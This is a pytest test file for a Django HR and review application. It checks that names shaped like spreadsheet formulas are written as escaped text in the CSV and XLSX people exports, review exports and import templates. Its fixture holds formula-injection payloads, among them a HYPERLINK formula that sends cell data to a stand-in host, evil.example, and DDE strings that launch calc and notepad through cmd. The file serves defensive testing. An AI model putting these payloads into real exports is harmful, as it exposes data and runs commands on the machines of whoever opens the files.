"""Spreadsheet formula injection (issue 14, fault 4), the writer side, over every file the product writes:
the people export, the review export and the import template, as CSV and XLSX, from the API and from
``manage.py people``. A name that looks like a formula comes out as text: a string cell in XLSX
(never a formula), the OWASP apostrophe in CSV."""

import csv
import io
import pathlib
import re
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from rest_framework.test import APIClient

from core.tabular import FORMULA_TRIGGERS, unescape_cell
from people.models import Employee, OrgUnit
from reviewcycle.models import Review, ReviewCycle
from tests.downloads import content

HOSTILE = {
    "employee": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "colleague": "+cmd|' /C calc'!A0",
    "manager": "@SUM(1+1)",
    "unit": "=1+1",
    "cycle": "-2+3",
    "role": "=cmd|' /C notepad'!A0",
}


@pytest.fixture
def hostile(review, org):
    """Names typed before anything was checked (written straight to the tables)."""
    Employee.objects.filter(pk=org.employee.pk).update(name=HOSTILE["employee"])
    Employee.objects.filter(pk=org.colleague.pk).update(name=HOSTILE["colleague"])
    Employee.objects.filter(pk=org.manager.pk).update(name=HOSTILE["manager"])
    OrgUnit.objects.filter(pk=org.team.pk).update(name=HOSTILE["unit"])
    ReviewCycle.objects.filter(pk=review.cycle_id).update(name=HOSTILE["cycle"])
    Review.objects.filter(pk=review.pk).update(role_label=HOSTILE["role"])
    return review


def _csv_fields(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [field for row in rows for field in row]


def _xlsx_cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def assert_text_only(content: bytes, file_format: str, expected: list[str]) -> None:
    """No cell of the file is a formula, and each expected value is there, as text."""
    if file_format == "csv":
        fields = _csv_fields(content)
        assert not [field for field in fields if field.startswith(FORMULA_TRIGGERS)]
        for value in expected:
            # Inside the quoted field, the OWASP escaping: a leading apostrophe.
            assert f'"\'{value.replace(chr(34), chr(34) * 2)}"'.encode() in content
            assert value in [unescape_cell(field) for field in fields]
    else:
        cells = _xlsx_cells(content)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        with zipfile.ZipFile(io.BytesIO(content)) as archive:  # no formula element in any sheet
            sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
            assert sheets
            assert not [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))]
        for value in expected:
            matching = [cell for cell in cells if cell.value == value]
            assert matching, value
            assert all(cell.data_type == "s" and cell.quotePrefix for cell in matching)


pytestmark = pytest.mark.django_db

PEOPLE = ["employee", "colleague", "manager"]
REVIEWS = ["employee", "manager", "unit", "cycle", "role"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["nl", "en"])
def test_every_api_export_writes_formulas_as_text(hostile, org, file_format, language):
    hr = APIClient()
    hr.force_authenticate(org.hr)
    people = hr.get(f"/api/v1/people/export/?format={file_format}&language={language}")
    assert people.status_code == 200
    # The people export names the unit by its path ("Gemeente Proef / =1+1"): only the start of a cell counts.
    assert_text_only(content(people), file_format, [HOSTILE[key] for key in PEOPLE])
    reviews = hr.get(
        f"/api/v1/reviews/export/?cycle={hostile.cycle_id}&format={file_format}&language={language}"
    )
    assert reviews.status_code == 200
    assert_text_only(content(reviews), file_format, [HOSTILE[key] for key in REVIEWS])
    template = hr.get(f"/api/v1/people/template/?format={file_format}&language={language}")
    assert template.status_code == 200
    assert_text_only(content(template), file_format, [])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_management_command_writes_formulas_as_text(hostile, tmp_path, file_format):
    exported = tmp_path / f"medewerkers.{file_format}"
    call_command("people", "export", str(exported))
    assert_text_only(exported.read_bytes(), file_format, [HOSTILE[key] for key in PEOPLE])
    template = tmp_path / f"sjabloon.{file_format}"
    call_command("people", "template", str(template))
    assert_text_only(template.read_bytes(), file_format, [])


def test_core_tabular_is_the_only_writer_of_csv_and_xlsx():
    """A new export cannot bypass the writer: nothing else in the product makes a CSV writer or a workbook."""
    root = pathlib.Path(__file__).resolve().parent.parent
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(")
    offenders = [
        str(path.relative_to(root))
        for app in "config core frameworks people reviewcycle notifications reports web".split()
        for path in (root / app).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path != root / "core" / "tabular.py"
    ]
    assert offenders == []
